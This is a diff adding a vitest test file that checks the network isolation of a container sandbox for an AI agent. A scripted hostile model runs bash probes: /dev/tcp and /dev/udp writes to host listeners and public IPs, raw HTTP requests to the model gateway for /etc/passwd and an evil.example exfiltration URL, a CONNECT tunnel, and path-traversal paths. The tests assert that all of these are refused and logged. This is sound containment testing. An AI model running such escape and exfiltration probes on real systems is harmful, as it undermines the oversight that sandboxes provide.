@@ -1,0 +1,109 @@
+// Network: with network "none" no TCP, UDP or DNS leaves the container. The model gateway's
+// socket is the only way out, and it forwards model API requests only: anything else (another
+// path, another host, a tunnel) is refused, answered 403 and logged as a "gateway.refused"
+// sandbox event.
+import dgram from "node:dgram";
+import net from "node:net";
+import os from "node:os";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { ScriptedModelServer } from "../../src/scripted-model/scripted-model-server.js";
+import { startModel } from "../support/harness.js";
+import { bash, cleanupHostileDirs, describeOutcome, finish, runHostile } from "../support/hostile-model.js";
+
+let server: ScriptedModelServer;
+beforeAll(async () => {
+  server = await startModel();
+});
+afterAll(async () => {
+  await server.close();
+  cleanupHostileDirs();
+});
+
+/** An address of this host that a container on Docker's default bridge could reach. */
+function hostAddress(): string {
+  const bridge = os.networkInterfaces().docker0?.find((a) => a.family === "IPv4");
+  return bridge?.address ?? "172.17.0.1";
+}
+
+/** Host listeners on every interface that count whatever reaches them. */
+async function startCatchers() {
+  let tcpConnections = 0;
+  let udpDatagrams = 0;
+  const tcp = net.createServer((socket) => {
+    tcpConnections++;
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => tcp.listen(0, "0.0.0.0", resolve));
+  const udp = dgram.createSocket("udp4");
+  udp.on("message", () => udpDatagrams++);
+  await new Promise<void>((resolve) => udp.bind(0, "0.0.0.0", resolve));
+  return {
+    tcpPort: (tcp.address() as net.AddressInfo).port,
+    udpPort: udp.address().port,
+    counts: () => ({ tcpConnections, udpDatagrams }),
+    close: async () => {
+      udp.close();
+      await new Promise<void>((resolve) => tcp.close(() => resolve()));
+    },
+  };
+}
+
+describe.concurrent("network", () => {
+  it('with network "none" no TCP, UDP or DNS leaves the container', async () => {
+    const catchers = await startCatchers();
+    try {
+      const host = hostAddress();
+      const outcome = await runHostile(server, [
+        bash(
+          [
+            `timeout 5 bash -c 'echo hi > /dev/tcp/${host}/${catchers.tcpPort}' 2>/dev/null; echo "tcp-host=$?"`,
+            `timeout 5 bash -c 'echo hi > /dev/tcp/1.1.1.1/443' 2>/dev/null; echo "tcp-internet=$?"`,
+            `timeout 5 bash -c 'echo hi > /dev/udp/${host}/${catchers.udpPort}' 2>/dev/null; echo "udp-host=$?"`,
+            `timeout 5 bash -c 'echo hi > /dev/udp/8.8.8.8/53' 2>/dev/null; echo "udp-dns=$?"`,
+            'timeout 5 getent hosts example.com >/dev/null; echo "dns=$?"',
+            'echo "interfaces=$(ls /sys/class/net | tr "\\n" " ")"',
+          ].join("\n"),
+        ),
+        finish(),
+      ]);
+      expect(outcome.details, describeOutcome(outcome)).toBeDefined();
+      const printed = outcome.toolResults[0] ?? "";
+      for (const probe of ["tcp-host", "tcp-internet", "udp-host", "udp-dns", "dns"]) {
+        expect(printed, probe).toMatch(new RegExp(`^${probe}=[1-9]`, "m"));
+      }
+      expect(printed).toMatch(/^interfaces=lo\s*$/m);
+      // Nothing arrived at the host, on any interface.
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      expect(catchers.counts()).toEqual({ tcpConnections: 0, udpDatagrams: 0 });
+    } finally {
+      await catchers.close();
+    }
+  });
+
+  it("the gateway refuses every non-model request (other paths, other hosts, tunnels) and logs gateway.refused", async () => {
+    const attempts: Record<string, string> = {
+      "unknown-route": "GET /etc/passwd HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n",
+      "other-path": "POST /scripted/files HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
+      "other-host": "GET http://evil.example/steal HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n",
+      "tunnel": "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n",
+      "traversal": "POST /scripted/chat/completions/../../../admin HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
+      "encoded-traversal": "POST /scripted/%2e%2e/%2e%2e/admin HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
+      "upgrade": "GET /scripted/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n",
+    };
+    const script = [
+      'probe() { exec 3<>/dev/tcp/127.0.0.1/18080 || { echo "$1=connect-failed"; return; }; printf "%b" "$2" >&3; echo "$1=$(timeout 5 head -1 <&3 | tr -d "\\r")"; exec 3<&- 3>&-; }',
+      ...Object.entries(attempts).map(([name, request]) => `probe ${name} '${request}'`),
+    ].join("\n");
+    const outcome = await runHostile(server, [bash(script), finish()]);
+    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
+    const printed = outcome.toolResults[0] ?? "";
+    for (const name of Object.keys(attempts)) expect(printed, name).toMatch(new RegExp(`^${name}=HTTP/1.1 403`, "m"));
+    const refused = outcome.events.filter((e) => e.type === "gateway.refused");
+    expect(refused.length).toBe(Object.keys(attempts).length);
+    for (const event of refused) expect(event.source).toBe("sandbox");
+    expect(refused.map((e) => e.data.path)).toEqual(expect.arrayContaining(["/etc/passwd", "/scripted/files"]));
+    expect(refused.map((e) => e.data.method)).toContain("CONNECT");
+    // Only Pi's own two model calls reached the upstream.
+    expect(outcome.requests.map((r) => r.path)).toEqual(["/v1/chat/completions", "/v1/chat/completions"]);
+  });
+});
